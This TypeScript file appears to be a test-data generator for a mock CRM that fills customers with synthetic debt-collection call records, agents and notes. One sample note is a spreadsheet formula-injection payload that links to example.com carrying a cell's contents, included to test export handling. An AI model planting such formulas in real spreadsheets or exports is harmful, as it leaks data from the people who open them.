// Turns stored customers into the management records that a day's work of agents would leave on them.
import { type ManagementRecord, managementRecord } from './management';
import { type Random, seededRandom } from './random';
import type { CrmSettings } from './settings';
import type { OperationStore, StoredCustomer } from './store';
import { serverSecond } from './time';

const TIPIFICATIONS: readonly (readonly [string, string])[] = [
  ['101', 'Promesa de pago'],
  ['102', 'Acuerdo de pago a cuotas'],
  ['103', 'Pago realizado'],
  ['201', 'No contesta'],
  ['202', 'Buzón de mensajes'],
  ['203', 'Número equivocado'],
  ['301', 'Renuente'],
  ['302', 'Reclamo: ya pagó'],
  ['401', 'Mensaje con tercero'],
  ['402', 'Titular fallecido'],
];

const AGENTS = [
  { user: 'lmoreno@moduletest03', nombre: 'Laura Moreno Díaz', id: '1001' },
  { user: 'cperez@moduletest03', nombre: 'Camilo Pérez Ñáñez', id: '1002' },
  { user: 'srojas@moduletest03', nombre: 'Sofía Rojas Güell', id: '0103' },
  { user: 'jduarte@moduletest03', nombre: 'Julián Duarte', id: '1004' },
];

/** What agents and customers do write, and what a spreadsheet would run, turn into a number or shorten. */
const NOTES = [
  'Llama el viernes después de las 5 p. m.',
  '=HYPERLINK("https://example.com/?x="&A1,"ver soporte")',
  '+57 300 000 0000 es el número nuevo',
  '00123',
  '-50000 abono',
  '@titular',
  '3E10',
  'Paga el 01/02',
  'Línea uno\nLínea dos',
  '',
];

const DAY_MS = 86_400_000;

/** Where the tipification stands: under either spelling, or under both. */
function tipification(random: Random): ManagementRecord {
  const [code, description] = random.pick(TIPIFICATIONS);
  const spelling = random.between(0, 2);
  return {
    ...(spelling === 1 ? {} : { tipifycation_code: code, tipifycation_desc: description }),
    ...(spelling === 0 ? {} : { tipification_code: code, tipification_description: description }),
  };
}

function customerPart(customer: StoredCustomer, random: Random, settings: Readonly<CrmSettings>): ManagementRecord {
  const identification = customer.values.Identification ?? '';
  const [first = '', ...rest] = (customer.values.Name ?? '').split(' ');
  const telephone = customer.values.Telephone ?? '';
  const obligation = customer.obligations.length > 0 ? random.pick(customer.obligations).values.id : undefined;
  return {
    id_customer: settings.gestionIdentificationIn === 'customer_id' ? '' : identification,
    customer_id: settings.gestionIdentificationIn === 'id_customer' ? '' : identification,
    wolkvox_idRecord: customer.wolkvoxId,
    client_name: first,
    client_lastname: rest.join(' '),
    client_type_document: 'CC',
    client_telephone: telephone,
    wolkvox_phoneCall: telephone.startsWith('+') ? telephone : `+57${telephone}`,
    wolkvox_CrmPhoneCall: telephone,
    obligation: obligation ?? '',
  };
}

function aRecord(customer: StoredCustomer, random: Random, settings: Readonly<CrmSettings>, aroundMs: number) {
  const agent = random.pick(AGENTS);
  const stamp = serverSecond(aroundMs - random.between(0, 10 * DAY_MS), settings.utcOffsetHours);
  return {
    ...tipification(random),
    ...customerPart(customer, random, settings),
    wolkvox_idCall: `00${random.between(1_000_000, 9_999_999)}`,
    agent_name: agent.nombre,
    agent_id: agent.id,
    type_interaction: random.pick(['call', 'whatsapp', 'sms', 'email']),
    time: stamp.slice(11),
    date: stamp,
    campaign_id: String(random.between(10_000, 10_009)),
    wolkvox_idCustomer: String(random.between(100_000, 999_999)),
    wolkvox_usuario_creacion: agent.user,
    wolkvox_origen: random.pick(['Agente', 'API', 'Discador']),
    wolkvox_ip_address: `192.0.2.${random.between(1, 254)}`,
    wolkvox_owner: { ...agent, email: `${agent.user.split('@')[0]}@example.com` },
    ...(random.chance(0.6) ? { Observaciones: random.pick(NOTES) } : {}),
    ...(random.chance(0.2) ? { 'Fecha de compromiso ': stamp.slice(0, 10) } : {}),
    ...(random.chance(0.1)
      ? { 'Valor prometido': { value: random.between(1, 90) * 10_000, symbol: '$', convert: '' } }
      : {}),
  };
}

/**
 * Adds 0 to 4 management records to the given share (0 to 1) of the customers, dated within ten days before `aroundMs`,
 * the same ones for the same seed. Returns how many were added.
 */
export function addAgentsWork(
  store: OperationStore,
  settings: Readonly<CrmSettings>,
  work: { readonly seed: number; readonly share: number; readonly aroundMs: number },
): number {
  const random = seededRandom(work.seed);
  const before = store.managementRecords.length;
  for (const customer of store.customers) {
    if (!random.chance(work.share)) continue;
    const count = random.between(0, 4);
    for (let made = 0; made < count; made++)
      store.managementRecords.push(
        managementRecord(aRecord(customer, random, settings, work.aroundMs), store.nextId()),
      );
  }
  return store.managementRecords.length - before;
}
